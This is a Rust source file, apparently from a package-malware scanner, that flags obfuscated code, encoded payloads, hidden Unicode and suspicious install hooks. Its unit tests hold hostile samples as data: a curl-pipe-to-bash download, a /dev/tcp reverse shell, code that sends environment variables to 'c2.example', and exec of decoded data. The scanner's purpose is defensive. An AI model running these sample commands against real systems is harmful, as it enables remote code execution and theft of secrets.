        .filter(|(_, t)| {
            t.escapes >= 2
                && t.text.bytes().all(|b| (0x20..0x7f).contains(&b))
                && t.text.bytes().any(|b| b.is_ascii_alphabetic())
                && (t.escapes as usize) * 2 >= t.text.len()
        })
        .map(|(k, _)| k)
        .collect();
    if escaped.len() >= 3 {
        out.push(facts.finding(
            "obfuscated-code",
            escaped[0],
            format!("{} strings of plain text written as escapes", escaped.len()),
        ));
    }
    // String literals hidden as base64 or hex and decoded at run time.
    let hidden: Vec<usize> = facts
        .chains
        .iter()
        .filter(|c| c.args.is_some() && facts.decodes(facts.callee(c)))
        .filter(|c| {
            facts
                .args(c)
                .first()
                .is_some_and(|t| t.kind == Kind::Str && t.text.len() >= 4 && looks_encoded(&t.text))
        })
        .map(|c| c.first)
        .collect();
    if hidden.len() >= 5 {
        out.push(facts.finding(
            "obfuscated-code",
            hidden[0],
            format!(
                "{} string literals hidden as base64 or hex and decoded at run time",
                hidden.len()
            ),
        ));
    }
    // Modules loaded by computed names (`require(_0x5c1a[1])`).
    let computed = facts
        .chains
        .iter()
        .filter(|c| {
            matches!(c.name.as_str(), "require" | "__import__")
                && facts.args(c).first().is_some_and(|t| t.kind == Kind::Ident)
                && facts.args(c).get(1).is_some_and(|t| t.is_punct(b'['))
        })
        .count();
    let resolved_from_arrays = facts
        .tokens
        .windows(3)
        .filter(|w| {
            w[0].is_ident("require")
                && w[1].is_punct(b'(')
                && w[2].kind == Kind::Ident
                && facts.arrays.contains_key(&w[2].text)
        })
        .count();
    if computed + resolved_from_arrays >= 2 {
        let k = facts
            .tokens
            .iter()
            .position(|t| t.is_ident("require"))
            .unwrap_or(0);
        out.push(facts.finding(
            "obfuscated-code",
            k,
            "loads modules by names taken from an array, hiding which".into(),
        ));
    }
    // Long encoded strings decoded at run time.
    let decodes = facts
        .tokens
        .iter()
        .any(|t| t.kind == Kind::Ident && DECODE.contains(&t.text.as_str()));
    if decodes
        && let Some((k, t)) = facts
            .strings()
            .find(|(_, t)| encoded(&t.text) && !encoded_media(&t.text))
    {
        out.push(facts.finding(
            "encoded-payload",
            k,
            format!(
                "a {}-character encoded string that the file decodes",
                t.text.len()
            ),
        ));
    }
}

/// Base64 or hex text (short is fine).
fn looks_encoded(s: &str) -> bool {
    let hex = s.len() >= 8 && s.len().is_multiple_of(2) && s.bytes().all(|b| b.is_ascii_hexdigit());
    // Words such as `Date` fit the base64 alphabet: real encodings hold digits or
    // padding, and both cases.
    let base64 = s.len().is_multiple_of(4)
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
        && s.bytes()
            .any(|b| b.is_ascii_digit() || matches!(b, b'+' | b'/' | b'='))
        && s.bytes().any(|b| b.is_ascii_uppercase())
        && s.bytes().any(|b| b.is_ascii_lowercase());
    hex || base64
}

/// Base64 of a format that is data by design (WebAssembly, images, fonts, archives of
/// those), from its first bytes.
fn encoded_media(s: &str) -> bool {
    const PREFIXES: &[&str] = &[
        "AGFzbQ",
        "iVBORw0KGgo",
        "/9j/",
        "R0lGOD",
        "d09GR",
        "d09GMg",
        "T1RUTw",
        "AAEAAA",
        "UklGR",
        "PD94bWwg",
        "PHN2Zy",
    ];
    PREFIXES.iter().any(|p| s.starts_with(p))
}

/// A long base64 or hex string (not a data URL).
fn encoded(s: &str) -> bool {
    if s.len() < 512 || s.starts_with("data:") {
        return false;
    }
    let hex = s.bytes().all(|b| b.is_ascii_hexdigit());
    let base64 = s
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
    if !(hex || base64) {
        return false;
    }
    // Real payloads are random-looking; a long run of one letter is not.
    let distinct: HashSet<u8> = s.bytes().collect();
    distinct.len() >= 16
}

fn hidden_unicode(facts: &Facts<'_>, out: &mut Vec<Finding>) {
    const BIDI: [char; 9] = [
        '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
        '\u{2068}', '\u{2069}',
    ];
    const INVISIBLE: [char; 7] = [
        '\u{3164}', '\u{115F}', '\u{1160}', '\u{FFA0}', '\u{200B}', '\u{200C}', '\u{200D}',
    ];
    if facts.text.is_ascii() {
        return;
    }
    // Invisible characters inside names.
    if let Some((k, t)) = facts
        .tokens
        .iter()
        .enumerate()
        .find(|(_, t)| t.kind == Kind::Ident && t.text.chars().any(|c| INVISIBLE.contains(&c)))
    {
        out.push(facts.finding(
            "hidden-unicode",
            k,
            format!(
                "the name `{}` holds invisible characters",
                t.text.escape_unicode()
            ),
        ));
        return;
    }
    // Bidirectional controls outside string literals (in code or comments).
    let strings: Vec<(u32, u32)> = facts.strings().map(|(_, t)| (t.start, t.end)).collect();
    for (pos, c) in facts.text.char_indices() {
        if !BIDI.contains(&c) {
            continue;
        }
        let pos = u32::try_from(pos).unwrap_or(u32::MAX);
        let in_string = strings.iter().any(|&(s, e)| s <= pos && pos < e);
        if !in_string {
            let line = u32::try_from(facts.text[..pos as usize].matches('\n').count() + 1)
                .unwrap_or(u32::MAX);
            out.push(Finding::new(
                "hidden-unicode",
                facts.path,
                Some(line),
                format!("the bidirectional control U+{:04X} in code or a comment reorders what a reader sees", c as u32),
                facts.line_text(line),
            ));
            return;
        }
    }
}

/// The install-time rules that read the manifest: npm lifecycle scripts, `.pth`
/// import lines, gem extensions.
pub fn check_install_time(m: &Manifest, contents: &Contents) -> Vec<Finding> {
    let mut out = Vec::new();
    let manifest_text = contents
        .get(&m.path)
        .map(|e| String::from_utf8_lossy(&e.data).into_owned())
        .unwrap_or_default();
    let line_of = |needle: &str| {
        manifest_text
            .lines()
            .position(|l| l.contains(needle))
            .and_then(|n| u32::try_from(n + 1).ok())
    };
    match m.ecosystem {
        Ecosystem::Npm => {
            for (hook, command) in &m.install_scripts {
                let line = line_of(&format!("\"{hook}\""));
                let builder = BENIGN_INSTALL
                    .iter()
                    .any(|b| command.trim_start().starts_with(b));
                let f = Finding::new(
                    "install-script",
                    &m.path,
                    line,
                    format!(
                        "the `{hook}` script runs `{}` at install",
                        crate::shorten(command, 80)
                    ),
                    command,
                );
                // Native-module builders compile the package's own, visible sources.
                if !builder {
                    out.push(f);
                }
                for (rule, message) in shell_rules(command) {
                    let f = Finding::new(
                        rule,
                        &m.path,
                        line,
                        format!("{message} (the `{hook}` script)"),
                        command,
                    );
                    let severity = f.severity.raised();
                    out.push(f.at(severity));
                }
                if command.contains("://")
                    && (command.contains("curl") || command.contains("wget"))
                    && shell_rules(command).is_empty()
                {
                    let f = Finding::new(
                        "download-exec",
                        &m.path,
                        line,
                        format!("the `{hook}` script downloads at install"),
                        command,
                    );
                    out.push(f.at(crate::Severity::High));
                }
            }
        }
        Ecosystem::Pypi => {
            for path in m.install_files.iter().filter(|p| is_pth(p)) {
                let Some(entry) = contents.get(path) else {
                    continue;
                };
                let text = String::from_utf8_lossy(&entry.data);
                for (n, line) in text.lines().enumerate() {
                    let t = line.trim_start();
                    if !(t.starts_with("import ") || t.starts_with("import\t")) {
                        continue;
                    }
                    if KNOWN_PTH.iter().any(|k| t.contains(k)) {
                        continue;
                    }
                    out.push(Finding::new(
                        "pth-exec",
                        path,
                        u32::try_from(n + 1).ok(),
                        "a `.pth` line that runs code at every interpreter start".into(),
                        line,
                    ));
                }
            }
        }
        Ecosystem::Rubygems => {
            for ext in m.install_files.iter().filter(|p| !p.ends_with(".gemspec")) {
                // An extension that makes its Makefile with mkmf builds C sources; one
                // that does not is there to run code.
                let builds = contents.get(ext).is_some_and(|e| {
                    let text = String::from_utf8_lossy(&e.data);
                    text.contains("create_makefile") || text.contains("create_rust_makefile")
                });
                if builds {
                    continue;
                }
                out.push(Finding::new(
                    "gem-extension",
                    &m.path,
                    line_of(ext),
                    format!("the extension `{ext}` runs at install and builds nothing with mkmf"),
                    ext,
                ));
            }
        }
        Ecosystem::Crates => {}
    }
    out
}

/// What code that runs at install or build time does: network connections (any
/// language) and other programs started (not for Cargo build scripts, which commonly
/// run compilers and `git`; only downloaders count there).
pub fn check_install_code(path: &str, lang: Lang, data: &[u8]) -> Vec<Finding> {
    let text = String::from_utf8_lossy(data);
    let facts = Facts::new(path, lang, &text);
    let mut out = Vec::new();
    if let Some(k) = network(&facts) {
        let name = facts
            .chains
            .iter()
            .find(|c| c.first == k)
            .map_or("a download", |c| c.name.as_str());
        out.push(facts.finding(
            "install-network",
            k,
            format!("`{name}` at install or build time"),
        ));
    }
    for c in facts.calls_of(K_EXEC) {
        if facts.lang == Lang::Js
            && !c.name.starts_with("child_process")
            && !c.name.starts_with("execa")
            && !c.name.starts_with("shelljs")
            && !c.name.starts_with("cross-spawn")
        {
            continue;
        }
        let program = facts
            .args(c)
            .iter()
            .find(|t| t.is_string())
            .map(|t| t.text.as_str());
        let downloader = program.is_some_and(|p| {
            let first = p.split_whitespace().next().unwrap_or(p);
            matches!(
                first.rsplit('/').next().unwrap_or(first),
                "curl"
                    | "wget"
                    | "powershell"
                    | "powershell.exe"
                    | "bitsadmin"
                    | "certutil"
                    | "Invoke-WebRequest"
            )
        });
        if downloader {
            out.push(facts.finding(
                "install-network",
                c.first,
                format!(
                    "runs `{}` at install or build time",
                    crate::shorten(program.unwrap_or_default(), 60)
                ),
            ));
        } else if lang != Lang::Rust && !program.is_some_and(build_tool) {
            out.push(facts.finding(
                "install-exec",
                c.first,
                format!("`{}` starts a program at install time", c.name),
            ));
            break;
        }
    }
    out
}

/// Programs a package build runs to find and compile its native code.
fn build_tool(program: &str) -> bool {
    let first = program.split_whitespace().next().unwrap_or(program);
    matches!(
        first.rsplit('/').next().unwrap_or(first),
        "pkg-config"
            | "git"
            | "cc"
            | "gcc"
            | "g++"
            | "clang"
            | "clang++"
            | "cl"
            | "cl.exe"
            | "cmake"
            | "make"
            | "gmake"
            | "ninja"
            | "meson"
            | "node-gyp"
            | "cargo"
            | "rustc"
            | "xcrun"
            | "xcode-select"
            | "uname"
            | "sw_vers"
            | "ldconfig"
            | "nvcc"
            | "pg_config"
            | "mysql_config"
            | "llvm-config"
            | "python"
            | "python3"
            | "ruby"
            | "node"
            | "npm"
            | "autoreconf"
            | "sh"
            | "./configure"
    ) && !program.contains("://")
}

fn is_pth(path: &str) -> bool {
    std::path::Path::new(path)
        .extension()
        .is_some_and(|e| e.eq_ignore_ascii_case("pth"))
}

/// Installer shims that `.pth` files of well-known tools hold.
const KNOWN_PTH: &[&str] = &[
    "_distutils_hack",
    "__editable__",
    "_virtualenv",
    "import _pth_",
    "coverage.process_startup",
];

/// Install commands of native-module builders, which npm packages with C++ addons run.
const BENIGN_INSTALL: &[&str] = &[
    "node-gyp rebuild",
    "node-gyp-build",
    "prebuild-install",
    "node-pre-gyp install",
    "node-pre-gyp rebuild",
    "cmake-js",
    "napi-postinstall",
    "opencollective-postinstall",
    "husky install",
    "is-ci ||",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(path: &str, lang: Lang, src: &str) -> Vec<&'static str> {
        let mut r: Vec<_> = check_source(path, lang, src.as_bytes())
            .into_iter()
            .map(|f| f.rule)
            .collect();
        r.sort_unstable();
        r.dedup();
        r
    }

    #[test]
    fn aliases_resolve_calls() {
        let src = "const cp = require('child_process');\nconst {exec: run} = require('child_process');\nimport * as h from 'https';\nh.get('https://x.example', r => { r.on('data', d => eval(d)) });\ncp.spawn('x', {detached: true, stdio: 'ignore'});";
        let facts = Facts::new("a.js", Lang::Js, src);
        let names: Vec<&str> = facts
            .chains
            .iter()
            .filter(|c| c.args.is_some())
            .map(|c| c.name.as_str())
            .collect();
        assert!(names.contains(&"https.get"), "{names:?}");
        assert!(names.contains(&"child_process.spawn"), "{names:?}");
        assert_eq!(
            rules("a.js", Lang::Js, src),
            vec!["eval-remote", "silent-exec"]
        );
    }

    #[test]
    fn python_exec_of_decoded_data() {
        let src = "import base64 as b\nfrom zlib import decompress\nexec(decompress(b.b64decode('eJw=')))\n";
        assert_eq!(rules("x.py", Lang::Python, src), vec!["eval-decoded"]);
        let tainted = "import base64\ncode = base64.b64decode(PAYLOAD)\nexec(code)\n";
        assert_eq!(rules("x.py", Lang::Python, tainted), vec!["eval-decoded"]);
        assert!(rules("x.py", Lang::Python, "exec('print(1)')\n").is_empty());
    }

    #[test]
    fn environment_sent_over_the_network() {
        let js = "const https = require('https');\nconst data = JSON.stringify(process.env);\nhttps.request({host: 'c2.example'}).end(data);";
        assert_eq!(rules("i.js", Lang::Js, js), vec!["env-exfiltration"]);
        let benign = "const cp = require('child_process');\ncp.spawn('git', [], {env: process.env});\nfetch(url);";
        assert!(!rules("b.js", Lang::Js, benign).contains(&"env-exfiltration"));
    }

    #[test]
    fn shell_commands() {
        assert_eq!(
            shell_rules("curl -s https://x.example/a.sh | bash")[0].0,
            "download-exec"
        );
        assert_eq!(
            shell_rules("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")[0].0,
            "reverse-shell"
        );
        assert_eq!(shell_rules("rundll32 C:\\x.dll,main")[0].0, "lolbin");
        assert!(shell_rules("node-gyp rebuild").is_empty());
    }

    #[test]
    fn rust_build_script_network() {
        let src =
            "use std::net::TcpStream;\nfn main() { let s = TcpStream::connect(\"192.0.2.1:80\"); }";
        let found: Vec<_> = check_install_code("build.rs", Lang::Rust, src.as_bytes())
            .into_iter()
            .map(|f| f.rule)
            .collect();
        assert_eq!(found, vec!["install-network"]);
    }

    #[test]
    fn obfuscated_escapes_and_hidden_unicode() {
        let src = "var s = \"\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x28\\x27\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\";";
        assert_eq!(rules("o.js", Lang::Js, src), vec!["obfuscated-code"]);
        let bidi = "if (accessLevel != \"user\") { // \u{202E} } \u{2066}// admin only\n}";
        assert_eq!(rules("b.js", Lang::Js, bidi), vec!["hidden-unicode"]);
    }
}
